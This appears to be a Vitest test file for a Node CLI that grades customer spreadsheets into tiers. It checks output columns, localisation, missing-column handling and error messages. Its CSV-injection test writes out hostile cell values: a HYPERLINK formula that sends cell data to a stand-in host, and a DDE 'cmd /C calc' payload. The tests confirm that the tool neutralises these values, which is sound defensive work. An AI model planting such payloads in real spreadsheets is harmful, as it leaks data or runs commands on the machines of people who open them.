import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { hostileText } from '../support/hostile-text.ts';

const FIXTURES = 'test/fixtures';
const BUNDLE = 'dist/cli/tiers.mjs';

/** Runs the CLI as `npm run tiers` does (the launcher, then the prebuilt bundle), with a fixed date and language. */
function tiers(...args: string[]) {
  const r = spawnSync(process.execPath, ['scripts/tiers-launch.mjs', ...args], {
    encoding: 'utf8',
    env: { ...process.env, LANG: 'en_US.UTF-8' },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}
const csvRows = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/u, '').trim(), { delimiter: ',' }).data;

describe('tiers CLI', () => {
  describe('CSV input', () => {
    it('writes the input columns plus Tier, Score and Reason, quoting correctly', () => {
      const r = tiers(`${FIXTURES}/customers.csv`, '--today', '2026-03-05');
      expect(r.code).toBe(0);
      const rows = csvRows(r.stdout);
      expect(rows[0]).toEqual(['客户名称', '销售额', '利润', '逾期天数', '备注', 'Tier', 'Score', 'Reason']);
      expect(rows[1]?.slice(0, 7)).toEqual(['甲公司', '¥1,200,000', '150000', '0', '老客户', 'A', '97']);
      expect(rows[2]?.[4]).toBe('含逗号,和"引号"');
      expect(rows[2]?.[7]).toBe(
        'B: revenue ¥450k, 20 overdue days; ¥550k more revenue would reach A. ' +
          'Score 63.5 (Revenue 30.0, Overdue days 24.5, Profit 9.0)',
      );
      expect(rows[3]).toEqual(['', '', '', '', '', '', '', '']);
      expect(rows[4]?.slice(5)).toEqual(['Check data', '', "销售额: '三千' is not a number"]);
      expect(rows[5]?.slice(5)).toEqual(['Insufficient data', '', 'Insufficient data: Revenue missing']);
      expect(rows).toHaveLength(7);
    });

    it('prints a summary per tier and the rows with problems to stderr', () => {
      const r = tiers(`${FIXTURES}/customers.csv`, '--today', '2026-03-05');
      expect(r.stderr.split('\n')).toEqual([
        'A: 1',
        'B: 1',
        'C: 0',
        'D: 1',
        'Insufficient data: 1',
        'Rows with problems: 1',
        "  5: 丙公司 销售额: '三千' is not a number",
        '  6: 丁公司 Insufficient data: Revenue missing',
        '',
      ]);
    });

    it('writes a UTF-8 file with BOM for --out and reasons in Chinese with --lang zh', () => {
      const out = join(mkdtempSync(join(tmpdir(), 'tiers-')), 'result.csv');
      const r = tiers(`${FIXTURES}/customers.csv`, '--out', out, '--lang', 'zh', '--today', '2026-03-05');
      expect(r.code).toBe(0);
      expect(r.stdout).toBe('');
      const text = readFileSync(out, 'utf8');
      expect(text.startsWith('\uFEFF')).toBe(true);
      expect(csvRows(text)[4]?.slice(5)).toEqual(['数据有误', '', '销售额：“三千”不是数字']);
    });

    it('uses a validated settings file', () => {
      const r = tiers(
        `${FIXTURES}/customers.csv`,
        '--settings',
        `${FIXTURES}/settings-share.json`,
        '--today',
        '2026-03-05',
      );
      expect(r.code).toBe(0);
      expect(csvRows(r.stdout)[1]?.[7]).toMatch(/^A: .*\. Score [\d.]+, in the top 25% \(/u);
    });
  });

  describe('CSV injection', () => {
    const FORMULA_START = /^[ \n]*[=+\-@\t\r]/u;
    const hostileName = hostileText().filter(name => name.trim() !== '');

    it('writes no cell that starts like a formula, keeps signed numbers, and names headers in --lang (generated)', () => {
      const names = fc.sample(hostileName, { numRuns: 150, seed: 12 });
      const input = [
        ['Customer', 'Revenue', 'Profit', 'Note'],
        ['Neg', '-5000', '-1.2万', '=HYPERLINK("http://x.test?"&A1,"click")'],
        ...names.map((name, i) => [name, String(1000 * (i + 1)), '10', `+cmd|' /C calc'!A${i}`]),
      ];
      const dir = mkdtempSync(join(tmpdir(), 'tiers-'));
      writeFileSync(join(dir, 'in.csv'), Papa.unparse(input));
      // No overdue-days column here: graded on the others only because --allow-missing says so.
      const r = tiers(
        join(dir, 'in.csv'),
        '--out',
        join(dir, 'out.csv'),
        '--lang',
        'zh',
        '--today',
        '2026-03-05',
        '--allow-missing',
      );
      expect(r.code).toBe(0);
      const rows = csvRows(readFileSync(join(dir, 'out.csv'), 'utf8'));
      expect(rows[0]).toEqual(['Customer', 'Revenue', 'Profit', 'Note', '等级', '得分', '原因']);
      expect(rows[1]?.slice(0, 4)).toEqual(['Neg', '-5000', '-1.2万', '\'=HYPERLINK("http://x.test?"&A1,"click")']);
      expect(rows).toHaveLength(input.length);
      names.forEach((name, i) => {
        const row = rows[i + 2] ?? [];
        expect(row[0]).toBe(FORMULA_START.test(name) ? `'${name}` : name);
        expect(row[3]).toBe(`'+cmd|' /C calc'!A${i}`);
      });
      for (const cell of rows.flat()) if (FORMULA_START.test(cell)) expect(cell).toMatch(/^-[\d.]+万?$/u);
    });
  });

  describe('missing columns', () => {
    const table = () => {
      const dir = mkdtempSync(join(tmpdir(), 'tiers-'));
      const file = join(dir, 'erp.csv');
      writeFileSync(file, '客户名称,开票金额,利润,逾期天数\n甲公司,1200000,150000,0\n');
      return file;
    };

    it('exits 1 naming the missing dimension by label, the closest header and the way out, grading nothing', () => {
      const en = tiers(table(), '--lang', 'en', '--today', '2026-03-05');
      expect(en.code).toBe(1);
      expect(en.stdout).toBe('');
      expect(en.stderr).toContain('These scored columns are not in file');
      expect(en.stderr).toContain('Revenue (50% of the weight)');
      expect(en.stderr).toContain('Closest: Revenue → "开票金额"');
      expect(en.stderr).toContain('--allow-missing');
    });

    it('says it in the chosen language, with labels rather than ids', () => {
      const zh = tiers(table(), '--lang', 'zh', '--today', '2026-03-05');
      expect(zh.code).toBe(1);
      expect(zh.stderr).toContain('销售额（占权重 50%）');
      expect(zh.stderr).not.toMatch(/\brevenue\b/u);
    });

    it('grades on the other dimensions with --allow-missing and still names what was left out', () => {
      const r = tiers(table(), '--lang', 'en', '--today', '2026-03-05', '--allow-missing');
      expect(r.code).toBe(0);
      expect(csvRows(r.stdout)[1]?.[4]).toMatch(/^[ABCD]$/u);
      expect(r.stderr).toContain('Columns not found: Revenue');
    });
  });

  describe('XLSX input', () => {
    it('reads the first sheet, formula results, rich text, errors and dates', () => {
      const r = tiers(`${FIXTURES}/customers.xlsx`, '--today', '2026-03-05');
      expect(r.code).toBe(0);
      const rows = csvRows(r.stdout);
      expect(rows[0]).toEqual([
        'Customer',
        'Revenue',
        'Profit',
        'Overdue days',
        'Last order',
        'Tier',
        'Score',
        'Reason',
      ]);
      expect(rows[1]?.slice(0, 7)).toEqual(['Acme', '1200000', '150000', '0', '2026-03-01', 'A', '97']);
      expect(rows[2]?.slice(1, 2)).toEqual(['450000']);
      expect(rows[3]?.slice(0, 3)).toEqual(['Gamma', '300000', '#N/A']);
      expect(rows[4]?.slice(5)).toEqual(['Check data', '', "Revenue: 'lots' is not a number"]);
    });
  });

  describe('start-up', () => {
    it('builds the bundle when it is missing, with the build talking on stderr only', () => {
      rmSync(BUNDLE, { force: true });
      const r = tiers(`${FIXTURES}/customers.csv`, '--today', '2026-03-05');
      expect(r.code).toBe(0);
      expect(existsSync(BUNDLE)).toBe(true);
      expect(csvRows(r.stdout)[0]?.[0]).toBe('客户名称');
    }, 120_000); // includes a build, which takes far longer on a loaded machine

    it('loads exceljs only when reading an .xlsx file', () => {
      const bundle = readFileSync(BUNDLE, 'utf8');
      expect(bundle).not.toMatch(/^import .*exceljs/mu);
      expect(bundle).toContain('import("exceljs")');
    });
  });

  describe('errors', () => {
    it('exits 1 with a clear message for a missing file', () => {
      const r = tiers(`${FIXTURES}/nope.csv`);
      expect(r).toMatchObject({ code: 1, stdout: '', stderr: `Cannot read ${FIXTURES}/nope.csv: no such file\n` });
    });

    it('explains that GBK files are not supported', () => {
      const r = tiers(`${FIXTURES}/customers-gbk.csv`);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('not UTF-8 text (GBK and other encodings are not supported');
      expect(r.stderr).not.toContain('    at ');
    });

    it('rejects a file that is not a spreadsheet', () => {
      expect(tiers(`${FIXTURES}/settings-bad.json`)).toMatchObject({ code: 1 });
      const r = tiers(`${FIXTURES}/customers-gbk.csv`.replace('.csv', '.xlsx'));
      expect(r.stderr).toContain('no such file');
    });

    it('rejects a broken xlsx without a stack trace', () => {
      const r = tiers(`${FIXTURES}/customers.csv`.replace('customers.csv', 'fake.xlsx'));
      expect(r.code).toBe(1);
      expect(r.stderr).not.toContain('    at ');
    });

    it('lists every settings issue in the chosen language', () => {
      const r = tiers(`${FIXTURES}/customers.csv`, '--settings', `${FIXTURES}/settings-bad.json`);
      expect(r.code).toBe(1);
      expect(r.stderr).toBe(
        `Invalid settings in ${FIXTURES}/settings-bad.json:\n  dimensions.1.weight: Dimension 2 "Profit": weight must be a number ≥ 0\n`,
      );
    });

    it('words its errors in the language of --lang', () => {
      expect(tiers(`${FIXTURES}/customers.csv`, '--lang', 'zh', '--preset', 'bank').stderr).toBe(
        '未知的预设“bank”：可用 factory、trading、custom\n',
      );
      expect(tiers(`${FIXTURES}/nope.csv`, '--lang', 'zh').stderr).toBe(`无法读取 ${FIXTURES}/nope.csv：文件不存在\n`);
    });

    it('rejects unknown presets and options with the usage line', () => {
      expect(tiers(`${FIXTURES}/customers.csv`, '--preset', 'bank').stderr).toBe(
        "Unknown preset 'bank': use factory, trading, custom\n",
      );
      const r = tiers(`${FIXTURES}/customers.csv`, '--colour', 'red');
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('Usage: npm run tiers --');
    });
  });
});
